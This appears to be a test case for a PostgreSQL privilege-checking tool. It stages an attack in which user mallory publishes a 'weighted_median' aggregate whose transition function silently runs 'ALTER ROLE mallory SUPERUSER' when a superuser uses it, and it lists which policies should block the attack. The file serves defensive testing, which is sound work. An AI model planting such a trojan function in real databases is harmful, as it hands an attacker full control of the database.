/*---
title: A user-defined aggregate's transition function runs as the caller
pattern: "CREATE AGGREGATE: the state transition function runs with the rights of whoever uses the aggregate"
description: >
  mallory publishes mallory.weighted_median(), an aggregate whose state transition function is hers.
  alice, a superuser, uses it in a report over her own table: the transition function runs once per
  row with alice's rights and makes mallory a superuser.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: aggregate, object: mallory.weighted_median(numeric), owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: aggregate, object: mallory.weighted_median(numeric), owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: aggregate, object: mallory.weighted_median(numeric), owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: aggregate, object: mallory.weighted_median(numeric), owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: aggregate, object: mallory.weighted_median(numeric), owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: aggregate, object: mallory.weighted_median(numeric), owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: aggregate, object: mallory.weighted_median(numeric), owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
CREATE SCHEMA alice AUTHORIZATION alice;
SET ROLE mallory;
CREATE FUNCTION mallory.f_escalate() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    ALTER ROLE mallory SUPERUSER;
    RETURN 1;
EXCEPTION WHEN insufficient_privilege THEN
    RETURN 0;
END $$;
CREATE FUNCTION mallory.collect(s numeric[], v numeric) RETURNS numeric[] LANGUAGE plpgsql AS $$
BEGIN
    PERFORM mallory.f_escalate();
    RETURN s || v;
END $$;
CREATE FUNCTION mallory.pick_median(s numeric[]) RETURNS numeric LANGUAGE sql IMMUTABLE AS
    $$ SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY x) FROM unnest(s) AS x $$;
CREATE AGGREGATE mallory.weighted_median(numeric) (SFUNC = mallory.collect, STYPE = numeric[],
                                                   FINALFUNC = mallory.pick_median, INITCOND = '{}');
RESET ROLE;
SET ROLE alice;
CREATE TABLE alice.sales(id integer, amount numeric);
INSERT INTO alice.sales VALUES (1, 10), (2, 25), (3, 40);
RESET ROLE;

-- @step alice
SELECT mallory.weighted_median(amount) FROM alice.sales;
